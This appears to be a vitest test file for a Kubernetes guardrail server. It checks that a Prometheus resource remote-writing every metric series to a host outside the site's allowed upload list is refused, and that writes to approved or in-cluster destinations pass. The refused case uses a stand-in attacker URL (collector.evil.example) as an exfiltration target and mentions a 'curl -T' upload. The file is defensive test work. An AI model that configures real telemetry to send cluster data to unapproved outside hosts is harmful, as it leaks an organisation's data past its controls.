import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 49's telemetry destinations (telemetry49, issue #12), black-box through the build `npm
 * start` serves, at a site that lists where its data may go (guardrails.upload_hosts): a Prometheus
 * CR remote-writing every series to a host outside the list is data_upload_outside, refused in every
 * token state as a container's `curl -T` there is; the same Prometheus writing to the site's listed
 * metrics host, and an OpenTelemetry Collector exporting to an in-cluster Tempo, are allowed on the
 * two-factor sign-in a minute old. The shapes row by row are in
 * test/unit/guardrails-telemetry-destinations.test.ts.
 */

const SITE = (yaml: string) => yaml.replace('guardrails:\n', 'guardrails:\n  upload_hosts: [metrics.corp.example, "*.grafana.net"]\n');
const server = builtServerForFile('telemetry49', SITE);
const subjects = freshSubjects(() => server().issuer, 'telemetry49');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];

const prometheus = (url: string) => ({
  method: 'POST',
  path: '/apis/monitoring.coreos.com/v1/namespaces/dev/prometheuses',
  headers: JSON_CT,
  body: { apiVersion: 'monitoring.coreos.com/v1', kind: 'Prometheus', metadata: { name: 'k8s', namespace: 'dev' }, spec: { replicas: 1, serviceMonitorSelector: {}, remoteWrite: [{ url }] } },
});

describe('telemetry49: telemetry shipped outside upload_hosts, through the server', () => {
  const rows: Row[] = [{ what: 'a Prometheus CR remote-writing every series to a host outside upload_hosts', req: prometheus('https://collector.evil.example/api/v1/write'), by: 'guardrail:data_upload_outside', refused: ALL }];
  checkEscalationRows(send, rows);

  it('routine telemetry writes are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      prometheus('https://metrics.corp.example/api/v1/push'),
      {
        method: 'POST',
        path: '/apis/opentelemetry.io/v1beta1/namespaces/dev/opentelemetrycollectors',
        headers: JSON_CT,
        body: { apiVersion: 'opentelemetry.io/v1beta1', kind: 'OpenTelemetryCollector', metadata: { name: 'otel', namespace: 'dev' }, spec: { config: { receivers: { otlp: { protocols: { grpc: {} } } }, exporters: { 'otlp/tempo': { endpoint: 'tempo.monitoring.svc.cluster.local:4317' } }, service: { pipelines: { traces: { receivers: ['otlp'], exporters: ['otlp/tempo'] } } } } } },
      },
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
